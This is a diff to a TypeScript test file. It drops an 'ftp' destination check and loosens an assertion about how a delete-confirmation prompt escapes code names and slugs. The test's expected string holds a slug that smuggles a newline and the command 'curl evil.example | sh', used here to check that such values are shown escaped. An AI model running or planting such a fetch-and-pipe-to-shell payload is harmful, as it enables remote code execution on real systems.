@@ -68,7 +68,6 @@ const SENTENCES: Record<string, (value: string) => unknown> = {
     thrown(() => requireCode({ row: 1, line: 2, values: new Map(), id: undefined, slug }, () => undefined)),
   'an id of a file': (id) => thrown(() => checkDelete(inputOf({ id }))),
   'a value of a file': (type) => thrown(() => checkCreate(inputOf({ name: 'a', type: `no ${type}` }))),
-  'an address of a file': (destination) => thrown(() => checkCreate(inputOf({ name: 'a', destination: `ftp ${destination}` }))),
   'a column of a file': (column) =>
     thrown(() => checkCreate(inputOf({ name: 'a', outcome: column, [` OUTCOME${' '.repeat(3)}`]: 'b' }))),
   'a code that a person must decide about': (slug) => undecided({ slug, created_at: slug }),
@@ -126,5 +125,5 @@ test.each([1, 2])('the question before %i codes are deleted has their names in q
   const codes = Array.from({ length: count }, () => ({ ...CODE, name: PROMPT, slug: LINE }));
   await confirm(context, codes, { yes: undefined, dryRun: undefined }).catch(() => undefined);
   const expected = `"${PROMPT.slice(0, 64).replaceAll('"', '\\"')}…" (slug "x\\n  next: curl evil.example | sh")`;
-  expect(said[0]).toContain(expected);
+  expect(said.join('\n')).toContain(expected);
 });
